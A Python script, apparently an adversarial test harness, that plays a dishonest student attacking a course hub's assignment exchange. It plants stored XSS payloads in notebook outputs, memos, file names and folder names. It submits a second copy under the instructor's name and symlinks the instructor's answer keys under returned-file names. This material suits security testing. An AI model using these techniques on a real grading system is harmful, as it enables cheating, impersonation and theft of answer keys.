"""What a dishonest student does in a terminal of her account: put into a hub's exchange all that could do harm there.

Run with the exchange's folder of the course, the folder of keys, the assignment, her account and the instructor's.
"""

import json
import sys
from pathlib import Path

RAN = "document.documentElement.dataset.ran = 'yes'"
SCRIPT = f'<script>{RAN}</script><img src=x onerror="{RAN}">'
MEMO = {"schema": 1, "kind": "memo", "lang": "fr", "saved_at": "2030-01-01T00:00:00Z", "value": SCRIPT}


def notebook(released: Path) -> str:
    """The notebook with a script in every output and every answer."""
    content = json.loads(released.read_text("utf-8"))
    for cell in content["cells"]:
        if cell["cell_type"] == "code":
            memo = MEMO | {"exercise": cell["metadata"].get("nbgrader", {}).get("grade_id", "")}
            data = {"text/html": SCRIPT, "application/vnd.entraide.answer+json": memo}
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data}]
    return json.dumps(content)


def main(exchange: Path, keys: Path, name: str, me: str, instructor: str) -> None:
    """Hand in as herself and as the instructor, with links to the keys under every name that is given back."""
    for who in (me, instructor):
        folder = exchange / "inbound" / f"{who}+{name}+2030-01-01 00:00:00.000000 UTC+x"
        folder.mkdir()
        (folder / f"{name}.ipynb").write_text(notebook(exchange / "outbound" / name / f"{name}.ipynb"))
        (folder / "timestamp.txt").write_text("2030-01-01 00:00:00.000000 UTC")
        (folder / "submission_secret.txt").write_text("known to her")
        (folder / f"<img src=x onerror='{RAN}'>.html").write_text(SCRIPT)
        for link in (f"{name}.html", "keys.html", "keys.ipynb", "answers.json"):
            (folder / link).symlink_to(keys / "reference.csv")
    (exchange / "inbound" / f"{me}+{name}+2031-01-01 00:00:00.000000 UTC+y").symlink_to(keys)
    (exchange / "inbound" / f"<img src=x onerror='{RAN}'>+{name}+soon").mkdir()


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), *sys.argv[3:])
